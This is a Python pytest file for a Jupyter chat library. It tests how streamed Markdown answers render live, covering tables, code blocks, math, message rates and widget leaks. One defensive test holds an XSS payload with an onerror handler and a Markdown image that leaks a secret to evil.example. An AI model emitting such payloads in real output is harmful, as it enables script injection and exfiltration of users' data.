"""The live answer rendered by the browser: what the kernel sends, and what a reader then sees.

`tests/live_browser.py` applies every message as `live_markdown.js` does; here each document it
would render is judged (markdown-it for fidelity, marked for safety in tests/test_safety.py),
and the costs are counted on a simulated clock. tests/test_browser.py runs the script itself in
JupyterLab and Notebook 7.
"""

from __future__ import annotations

import itertools
from typing import Any

import pytest

from chatnb.display import MarkdownStream
from chatnb.markdown import MarkdownSplitter, render
from chatnb.markdown.live_tail import CHECK_INTERVAL_S, GrowingBlock, TailCheck
from chatnb.mock.replies import markdown_sample

from .corpus import ANSWERS
from .live_browser import LiveBrowser
from .test_markdown import unsafe_tokens


def stream(text: str, *, step: int = 4, seconds: float = 0.01, safe: bool = True) -> LiveBrowser:
    """``text`` streamed ``step`` characters at a time, one piece every ``seconds``."""
    now = [0.0]
    browser = LiveBrowser()
    live = MarkdownStream(safe, sink=browser, clock=lambda: now[0])  # type: ignore[arg-type]
    for at in range(0, len(text), step):
        now[0] += seconds
        live.feed(text[at : at + step])
    live.close()
    return browser


@pytest.mark.parametrize("name", ANSWERS)
def test_the_frozen_parts_render_as_the_whole_answer(name: str) -> None:
    text = ANSWERS[name]
    browser = stream(text, step=3, seconds=1.0)  # an update after every piece
    assert browser.outputs == [MarkdownStream_whole(text)]
    widget = browser.widgets[0]
    assert widget.closed and widget.text == ""  # everything was frozen or handed over
    # Every live state, put together as the script puts it (a growing table's rows and a
    # code block's lines rendered apart), is the rendering of the same text.
    for state in browser.states:
        assert state.drawn == render(state.tail), state.tail[-200:]
    final = browser.states[-1]
    if not MarkdownSplitter_revised(text):
        # Each part rendered on its own, one after the other, is the whole answer's HTML.
        assert "".join(render(part) for part in final.parts) + render(final.tail) == render(
            browser.outputs[0]
        )


def MarkdownStream_whole(text: str) -> str:
    splitter = MarkdownSplitter(allow_html=False, allow_remote_images=False)
    splitter.feed(text)
    return splitter.whole()


def MarkdownSplitter_revised(text: str) -> bool:
    splitter = MarkdownSplitter(allow_html=False, allow_remote_images=False)
    for at in range(0, len(text), 3):
        splitter.feed(text[at : at + 3])
        splitter.advance()
    splitter.advance(final=True)
    return splitter.revised


def test_text_crosses_the_wire_once_and_messages_stay_under_25_a_second() -> None:
    text = markdown_sample(40_000, 7)
    browser = stream(text, step=4, seconds=0.01)  # 100 tokens a second
    seconds = len(range(0, len(text), 4)) * 0.01
    appended = "".join(m.get("append", "") for m in browser.messages)
    assert appended == text
    part_markdown = sum(
        len(p.get("markdown", "").encode()) for m in browser.messages for p in m.get("freeze", [])
    )
    live_bytes = len(appended.encode()) + part_markdown
    assert live_bytes + len(browser.outputs[0].encode()) <= 3 * len(text.encode())
    assert len(browser.messages) <= 25 * seconds
    assert sum(len(m.get("freeze", [])) for m in browser.messages) > 20  # parts frozen as they end


def test_the_tail_renders_as_it_arrives_in_plain_answers() -> None:
    # Nothing to escape or rewrite: every state renders all the text that arrived.
    text = "# Title\n\nSome **bold** words and a [link](https://example.com/a).\n\n" * 20
    text = text.replace("[link](https://example.com/a)", "link")
    browser = stream(text, step=5, seconds=0.05)
    assert all(state.plain == "" for state in browser.states)


def test_unsafe_text_never_reaches_the_renderer_while_it_streams() -> None:
    text = (
        "Intro.\n\nA paragraph with <img src=x onerror=alert(1)> inside it, and more words "
        "after it, then ![leak](https://evil.example/?q=secret) and the end.\n\nNext.\n"
    )
    browser = stream(text, step=2, seconds=0.05)
    for document in browser.rendered:
        assert unsafe_tokens(document) == [], document
    # The text was shown all the same, as plain text until its block was finished.
    assert any("onerror" in state.plain for state in browser.states)


def test_open_display_math_shows_as_plain_code_text_until_it_closes() -> None:
    text = "Expand it:\n\n$$\nf(x) = x^2\n- 2x + 1\n$$\n\nDone.\n"
    browser = stream(text, step=1, seconds=1.0)
    open_states = [s for s in browser.states if s.plain.startswith("$$\n")]
    assert open_states and all(s.math for s in open_states)
    assert all(s.tail.count("$$") % 2 == 0 for s in browser.states)  # no half math rendered
    assert browser.outputs[0].count("$$") == 2


def test_a_table_header_row_waits_for_its_delimiter_row_and_then_grows_row_by_row() -> None:
    text = "Results:\n\n| x | f(x) |\n|---|---|\n" + "".join(
        f"| {i} | {i * i} |\n" for i in range(30)
    )
    browser = stream(text, step=2, seconds=1.0)
    for state in browser.states:
        assert "<p>|" not in render(state.tail), state  # never a paragraph of pipes
    rows = [
        render(state.tail).count("<tr>")
        for state in browser.states
        if "<table>" in render(state.tail)
    ]
    assert rows == sorted(rows) and rows[-1] >= 25  # the open table grew row by row


@pytest.mark.slow  # a 500 KB tail grown 100,000 times: 10-70 s of CPU
def test_a_tail_with_triggers_is_checked_at_most_every_interval() -> None:
    # A 400 KB paragraph with a "!" in every sentence: checking costs O(tail), so it is paced.
    now = [0.0]
    checked: list[int] = []

    def shown_as_fed(text: str) -> bool:
        checked.append(len(text))
        return True

    check = TailCheck(shown_as_fed, lambda: now[0])
    tail = ""
    for _ in range(100_000):
        tail += "Yes! "
        now[0] += 0.01
        plain, _ = check.plain_from(tail)
        assert plain is None or plain <= len(tail)
    assert len(checked) <= 100_000 * 0.01 / CHECK_INTERVAL_S + 1
    # What waits for the next check is what arrived since the last one: a quarter second.
    assert plain is None or len(tail) - plain <= 5 * CHECK_INTERVAL_S / 0.01 + 5


def test_a_tail_found_unsafe_is_checked_again_only_after_it_grew_by_an_eighth() -> None:
    now = [0.0]
    checked: list[int] = []

    def shown_as_fed(text: str) -> bool:
        checked.append(len(text))
        return False

    check = TailCheck(shown_as_fed, lambda: now[0])
    tail = "<b onclick=x>"
    for _ in range(2_000):
        tail += "word "
        now[0] += 1.0
        assert check.plain_from(tail) == (0, False)  # plain from the first "<"
    growth = [b / a for a, b in itertools.pairwise(checked)]
    assert all(g >= 1.125 for g in growth)


LEAK_CHECK = """
import gc, tracemalloc, ipywidgets
from chatnb import Chatbot
bot = Chatbot.mock("Short **answer** with a [link](https://example.com).", model="gpt-4o")
before = len(ipywidgets.Widget.widgets)
tracemalloc.start()
sizes = []
for i in range({asks}):
    bot.ask("again")
    bot.reset()
    if i in ({warm}, {asks} - 1):
        gc.collect()
        sizes.append(tracemalloc.get_traced_memory()[0])
print(len(ipywidgets.Widget.widgets) - before, sizes[1] - sizes[0])
"""


def test_many_asks_leave_no_live_widget_behind_and_memory_flat(kernel: Any) -> None:
    # Each answer's live widget is closed when its Markdown takes its place.
    run = kernel.run(LEAK_CHECK.format(asks=400, warm=50), timeout=600).ok()
    widgets, growth = map(int, run.frontend.stdout().split())
    assert widgets == 0
    assert growth < 350 * 2_000  # well under the few KB each ask's widget and comm would keep
    opened = run.of_type("comm_open")
    closed = run.of_type("comm_close")
    assert len(opened) >= 400 and len(closed) >= len(opened)


def test_a_growing_code_block_is_checked_once_and_its_end_checked_again() -> None:
    # Code is shown as fed: once a check finds the tail inside an open block, the block's new
    # text costs nothing more until a line that could close it arrives.
    now = [0.0]
    splitter = MarkdownSplitter(allow_html=False, allow_remote_images=False)
    check = TailCheck(splitter.shown_as_fed, lambda: now[0])
    tail = "Code:\n\n```python\n"
    for i in range(2_000):
        tail += f"x[{i}] = a < b and not c!\n"
        now[0] += 0.1
        assert check.plain_from(tail) == (None, False) or i == 0
    assert check.checks <= 2
    tail += "```\n\nAfter <b onclick=x> the block.\n"
    now[0] += 1.0
    plain, _ = check.plain_from(tail)
    assert plain is not None and tail[plain:].startswith("```")  # checked again: not as fed


TABLE = "Results:\n\n| n | square | note |\n|---:|:-:|---|\n" + "".join(
    f"| {i} | {i * i} | *row* `{i}` |\n" for i in range(400)
)
CODE = "The code:\n\n```python\n" + "".join(
    f"def f{i}(x):\n    return x * {i}  # a < b\n" for i in range(300)
)


@pytest.mark.parametrize("text", [TABLE, CODE], ids=["table", "code"])
def test_a_long_table_or_code_block_is_drawn_from_its_new_lines(text: str) -> None:
    # Each draw renders the block's head with its new complete lines, and its last line: a
    # bounded amount, however long the block; the live state still is the whole rendering.
    browser = stream(text, step=4, seconds=0.05)
    longest_line = max(len(line) for line in text.splitlines()) + 1
    head = text.index("\n|---") + 40 if text is TABLE else text.index("```") + 12
    sizes = [sum(len(d) for d in state.documents) for state in browser.states]
    big = [size for size in sizes if size > head + 4 * longest_line]
    assert len(big) <= 3, big  # the block rendered whole: when it starts, when it settles
    for state in browser.states[:: max(1, len(browser.states) // 50)]:
        assert state.drawn == render(state.tail)
    # O(n) in all, not O(n²): the new lines once each (thrice for the block whole), and per
    # draw the head and the last line.
    assert sum(sizes) <= 4 * len(text) + len(sizes) * 2 * (head + longest_line)
    grows = [m["block"][1] for m in browser.messages if m.get("block")]
    assert grows and set(grows) == {"table" if text is TABLE else "code"}


@pytest.mark.parametrize(
    "text",
    [
        "1. item\n\n   | a | b |\n   |---|---|\n   | 1 | 2 |\n",  # in a list item
        "> | a | b |\n> |---|---|\n> | 1 | 2 |\n",  # in a quote
        "- item\n\n  ```python\n  x = 1\n",  # in a list item
        "<details>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",  # in an element spanning blocks
        "<!--\n```\nx = 1\n",  # in an HTML comment
        "$$\n| a |\n|---|\n| b |\n",  # in display math
        "| a |\r\n|---|\r\n| 1 |\r\n",  # other line ends
    ],
)
def test_only_a_top_level_table_or_code_block_grows(text: str) -> None:
    assert GrowingBlock().find(text, None) is None


def test_a_growing_block_stops_at_a_line_its_rules_do_not_know() -> None:
    grow = GrowingBlock()
    table = "Intro.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    assert grow.find(table, None) == (8, "table")
    assert grow.find(table + "| 3 |", None) == (8, "table")  # an incomplete row: still
    assert grow.find(table + "| 3 |\n\nAfter", None) == (len(table) + 7, None)  # ended
    lost = GrowingBlock()
    assert lost.find(table + "a | b\n", None) is None  # a row without a leading pipe
    code = "```python\nx = 1\n"
    grow = GrowingBlock()
    assert grow.find(code + "```python\n", None) == (0, "code")  # an opener: still code
    assert grow.find(code + "```python\n~~~\n", None) == (0, "code")
    closed = code + "```python\n~~~\n```  \n"
    assert grow.find(closed + "Next", None) == (len(closed), None)  # closed
    assert GrowingBlock().find(code + "```` \n", None) == (len(code) + 6, None)
    assert GrowingBlock().find(code + "``` x\n", None) == (0, "code")
    unknown = GrowingBlock()
    assert unknown.find(code + "  ````~", None) == (0, "code")  # incomplete: not read yet
    assert unknown.find(code + "  ````~\n", None) is None  # closes it for marked only
    # A block whose head is not renderable yet (plain text from there) does not grow.
    assert GrowingBlock().find(table, 10) == (8, None)  # rendered whole from its start


def test_a_table_row_with_math_open_across_rows_stops_the_growth() -> None:
    table = "| a | b |\n|---|---|\n| $x$ | 1 |\n"
    assert GrowingBlock().find(table, None) == (0, "table")
    assert GrowingBlock().find(table + "| $x | 1 |\n| 2 | y$ |\n", None) is None


def test_candidates_that_are_not_top_level_blocks_are_looked_at_geometrically() -> None:
    # A long list whose items hold code blocks: each fence line looks like a block start, but
    # markdown-it finds it inside an item; asking it again at every one would cost O(n²).
    grow = GrowingBlock()
    tail = ""
    for i in range(400):
        tail += f"- item {i}\n\n  ```python\n  x = {i}\n  ```\n"
        assert grow.find(tail, None) is None
    assert grow.verified <= 60
